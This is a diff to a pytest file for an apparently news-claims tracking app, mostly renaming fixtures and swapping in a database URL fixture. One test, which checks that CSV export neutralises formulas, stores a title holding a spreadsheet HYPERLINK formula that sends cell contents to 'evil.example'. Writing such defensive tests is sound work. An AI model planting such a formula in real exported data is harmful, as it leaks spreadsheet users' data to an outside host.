@@ -28,8 +28,8 @@ ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")
 
 
 @pytest.fixture(scope="module")
-def client(desk_app: FastAPI) -> Iterator[TestClient]:
-    with TestClient(desk_app) as c:
+def client(sample_app: FastAPI) -> Iterator[TestClient]:
+    with TestClient(sample_app) as c:
         yield c
 
 
@@ -74,10 +74,10 @@ def test_jsonl_and_csv_hold_every_row_alike(client: TestClient, what: str, colum
     assert lines[0]["link"] == f"http://testserver/articles/{lines[0]['document']}#{anchor}-{ids[0]}"
 
 
-def test_claims_carry_their_proposition_and_verdict(client: TestClient, desk_store: Store) -> None:
+def test_claims_carry_their_proposition_and_verdict(client: TestClient, sample_store: Store) -> None:
     lines = jsonl(download(client, "claims.jsonl", "application/x-ndjson"))
     pid = query.pid("control|Pokrovsk|Russia")
-    stances = query.proposition_summary(desk_store, pid)
+    stances = query.proposition_summary(sample_store, pid)
     assert stances is not None and stances.stances > 40
     pokrovsk = [c for c in lines if c["pid"] == pid]
     assert len(pokrovsk) == stances.stances and {c["status"] for c in pokrovsk} == {"contested"}
@@ -125,13 +125,13 @@ def test_csv_neutralises_formulas(value: object, cell: str) -> None:
     assert spreadsheet(content) == [["value"], [cell]]
 
 
-def test_csv_neutralises_a_hostile_stored_title(tmp_path: Path) -> None:
+def test_csv_neutralises_a_hostile_stored_title(tmp_path: Path, db_url: str) -> None:
     """Stored from a JSONL record whose title is a formula: the export keeps it as text."""
     feed = tmp_path / "feed.jsonl"
     title = '=HYPERLINK("http://evil.example/?"&A1,"Pokrovsk")'
     record = {"title": title, "text": "Le Kremlin a affirmé mardi que Pokrovsk était tombée, selon Moscou."}
     feed.write_text(json.dumps(record), encoding="utf-8")
-    store = Store(f"sqlite:///{tmp_path / 'hostile.db'}")
+    store = Store(db_url)
     assert batch.ingest([feed], store).stored == 1
     with TestClient(create_app(store)) as client:
         for name, columns in (("attributions.csv", ATTRIBUTION_COLUMNS), ("claims.csv", CLAIM_COLUMNS)):
